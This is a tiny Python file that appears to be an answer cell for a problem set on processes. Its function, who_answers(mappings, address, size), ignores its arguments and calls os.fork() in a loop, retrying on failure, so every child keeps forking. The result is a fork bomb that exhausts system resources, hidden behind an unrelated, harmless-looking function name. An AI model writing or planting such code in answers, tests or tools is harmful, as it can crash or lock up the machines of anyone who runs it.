# ruff: noqa
"""Processes that make processes."""

# %% ps1-q1-answer
import os


def who_answers(mappings, address, size):
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            continue
        print("LEAKED: a process")
